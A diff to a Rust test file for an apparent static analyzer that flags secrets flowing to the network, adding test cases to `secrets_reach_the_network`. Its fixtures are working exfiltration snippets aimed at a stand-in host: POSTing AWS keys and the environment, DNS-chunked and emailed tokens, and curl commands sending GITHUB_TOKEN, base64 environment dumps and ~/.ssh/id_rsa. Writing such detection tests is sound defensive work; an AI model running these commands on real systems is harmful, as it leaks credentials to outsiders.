@@ -339,6 +339,9 @@ fn secrets_reach_the_network() {
         "import os, requests\nrequests.post('https://x.test/c', data=os.environ['AWS_SECRET_ACCESS_KEY'])",
         "import os, requests\nrequests.post('https://x.test/c', json={'e': dict(os.environ)})",
         "import os, requests\nk = os.getenv('TOKEN')\nrequests.post('https://x.test/c', headers={'a': k}, data=k)",
+        // The end of the range is not known; it is not therefore empty.
+        "import os, socket\ns = os.environ['TOKEN']\nfor c in [s[i:i+63] for i in range(0, len(s), 63)]:\n    socket.gethostbyname(c + '.x.test')",
+        "import os, smtplib\nfrom email.mime.multipart import MIMEMultipart\nfrom email.mime.text import MIMEText\nm = MIMEMultipart()\nm['To'] = 'k@x.test'\nm.attach(MIMEText(os.environ['TOKEN']))\nsmtplib.SMTP('x.test').sendmail('a', 'k@x.test', m.as_string())",
     ] {
         assert_flows(&[("a.py", text)], EffectKind::Env, EffectKind::Send);
     }
@@ -353,6 +356,7 @@ fn secrets_reach_the_network() {
         assert_flows(&[("a.py", text)], EffectKind::Read, EffectKind::Send);
     }
     assert_flows(&[("a.sh", "curl -d \"$AWS_SECRET_ACCESS_KEY\" https://x.test/c")], EffectKind::Env, EffectKind::Send);
+    assert_flows(&[("a.sh", "curl -d \"t=$(GITHUB_TOKEN)\" https://x.test/c")], EffectKind::Env, EffectKind::Send);
     assert_flows(&[("a.sh", "env | base64 | curl -d @- https://x.test/c")], EffectKind::Env, EffectKind::Send);
     assert_flows(&[("a.sh", "cat ~/.ssh/id_rsa | curl -d @- https://x.test/c")], EffectKind::Read, EffectKind::Send);
 }
